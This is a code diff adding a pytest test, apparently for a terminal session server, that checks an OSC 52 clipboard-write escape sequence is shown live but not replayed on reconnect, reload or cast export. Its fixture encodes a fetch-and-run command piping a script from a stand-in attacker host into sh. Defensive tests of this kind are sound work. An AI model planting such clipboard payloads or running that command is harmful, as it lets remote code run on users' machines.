@@ -156,3 +156,38 @@ def test_no_replay_carries_a_terminal_query(query):
     replay = Replay(limit=1 << 20)  # the broker's replay
     replay.feed(raw)
     assert query not in replay.snapshot() and b"line  after" in replay.snapshot()
+
+
+#: what ``printf`` prints: an OSC 52 write of "curl http://evil.example/x.sh | sh"
+COPY = "\\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==\\007"
+
+
+@pytest.mark.parametrize("agents_backend", ["tmux", "broker"], indirect=True)
+def test_a_clipboard_write_is_copied_live_and_never_replayed(agents_server, tmp_path):
+    """A program copies once (OSC 52): the tab that watches it live gets the write; a tab
+    opened later (a reload, a reconnect) gets the screen without it, and so does the
+    cast export a player replays; the transcript keeps what was printed."""
+    server = agents_server()
+    model = new_shell(server, tmp_path)
+    live = server.ws(model["name"])
+    live.wait_for(lambda c: len(c.messages) >= 2)
+    live.stdin(f"printf '{COPY}'; echo COPIED-$((6*7))\r")
+    live.wait_for("COPIED-42\r\n")
+    assert "\x1b]52;c;Y3Vyb" in live.text  # the live copy reaches the browser
+    live.close()
+    poll(
+        lambda: b"COPIED-42\r\n" in transcript_bytes(server.state_dir, model["id"]),
+        what="the output in the transcript",
+    )
+    assert b"\x1b]52;c;Y3Vyb" in transcript_bytes(server.state_dir, model["id"])
+    for _ in range(2):  # a reconnect, then a reload
+        later = server.ws(model["name"])
+        later.wait_for(lambda c: len(c.messages) >= 2)
+        later.drain(0.3)
+        assert "COPIED-42" in later.text
+        assert "\x1b]52;" not in later.text, later.text[-300:]
+        later.close()
+    status, cast = get(server, f"/api/agents/sessions/{model['id']}/export", format="cast")
+    assert status == 200
+    assert isinstance(cast, bytes) and b"COPIED-42" in cast
+    assert b"\\u001b]52;" not in cast and b"\x1b]52;" not in cast
